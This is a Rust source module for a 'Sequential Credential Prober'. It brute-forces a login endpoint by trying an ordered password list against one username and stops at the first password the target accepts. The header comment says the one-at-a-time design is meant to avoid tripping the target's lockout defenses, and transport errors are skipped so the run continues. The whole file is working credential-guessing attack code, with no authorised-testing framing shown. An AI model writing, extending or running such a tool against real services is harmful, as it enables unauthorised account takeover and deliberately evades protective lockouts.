//! # Sequential Credential Prober
//!
//! Walks an ordered password list against a login endpoint, one request
//! at a time, and stops at the first password the classifier accepts.
//!
//! The loop is sequential on purpose: a single request in flight keeps
//! the attempt trail ordered and avoids tripping lockout defenses on the
//! target. A transport failure on one password never halts the sequence.

pub mod classifier;
pub mod http;

use tracing::debug;

use crate::cancel::CancelToken;
use crate::prober::classifier::Verdict;
use crate::prober::http::{LoginResponse, LoginTransport};

/// A username/password pair the target accepted.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Credentials {
    pub username: String,
    pub password: String,
}

/// Classification of a single credential attempt.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum AttemptOutcome {
    Success,
    Failure,
    /// The request never produced a classifiable response. The prober
    /// reports it and moves on to the next password.
    NetworkError,
}

/// Ordered notifications emitted while the prober runs. Presentation is
/// the observer's concern.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum AttemptEvent<'a> {
    /// Emitted before the network call, for every non-empty password.
    Trying { index: usize, password: &'a str },
    /// The attempt failed at the transport layer and was skipped.
    TransportFailed { index: usize },
}

pub type AttemptObserver = Box<dyn Fn(AttemptEvent<'_>) + Send + Sync>;

/// Tries each password in order and short-circuits on the first success.
///
/// Entries are trimmed first; an entry that trims to nothing is skipped
/// without a network call. Returns `None` when the list is exhausted or
/// the run is cancelled.
pub async fn brute_force(
    transport: &dyn LoginTransport,
    url: &str,
    username: &str,
    passwords: &[String],
    observer: Option<AttemptObserver>,
    cancel: CancelToken,
) -> Option<Credentials> {
    for (index, raw) in passwords.iter().enumerate() {
        if cancel.is_cancelled() {
            debug!("brute force cancelled after {index} entries");
            return None;
        }

        let password: &str = raw.trim();
        if password.is_empty() {
            continue;
        }

        notify(&observer, AttemptEvent::Trying { index, password });

        match attempt(transport, url, username, password).await {
            AttemptOutcome::Success => {
                return Some(Credentials {
                    username: username.to_string(),
                    password: password.to_string(),
                });
            }
            AttemptOutcome::Failure => {}
            AttemptOutcome::NetworkError => {
                notify(&observer, AttemptEvent::TransportFailed { index });
            }
        }
    }

    None
}

/// Runs one credential attempt, folding transport failures into the
/// outcome instead of propagating them.
async fn attempt(
    transport: &dyn LoginTransport,
    url: &str,
    username: &str,
    password: &str,
) -> AttemptOutcome {
    let response: LoginResponse = match transport.submit(url, username, password).await {
        Ok(response) => response,
        Err(_transport) => return AttemptOutcome::NetworkError,
    };

    match classifier::classify(&response) {
        Verdict::Success => AttemptOutcome::Success,
        Verdict::Failure => AttemptOutcome::Failure,
    }
}

fn notify(observer: &Option<AttemptObserver>, event: AttemptEvent<'_>) {
    if let Some(report) = observer {
        report(event);
    }
}
